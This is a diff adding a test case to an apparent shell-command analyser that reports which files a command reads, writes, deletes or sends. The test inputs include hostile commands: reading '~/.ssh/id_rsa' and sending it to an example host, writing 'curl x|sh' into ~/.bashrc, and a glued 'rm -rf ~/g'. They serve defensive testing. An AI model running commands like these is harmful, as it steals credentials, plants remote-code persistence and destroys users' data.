@@ -124,6 +124,8 @@ def test_the_rest_of_a_here_documents_line_runs() -> None:
     assert sent.reads == ("~/.ssh/id_rsa",) and sent.sends == ("https://h.example",)
     assert analyse_command("cat <<EOF file.txt\nx\nEOF").reads == ("file.txt",)  # an argument of cat
     assert analyse_command("cat <<EOF a && b\nbody\nEOF").reads == ("a",)  # a word in an error, not an operator
+    glued = analyse_command("cat > f <<EOF a ;rm -rf ~/g\nhi\nEOF")  # `a ;rm`: one word to the grammar
+    assert glued.reads == ("a",) and glued.deletes == ("~/g",)
     assert analyse_command("cat<<EOF>~/.bashrc\ncurl x|sh\nEOF").writes == ("~/.bashrc",)  # `EOF>` spaced
 
 
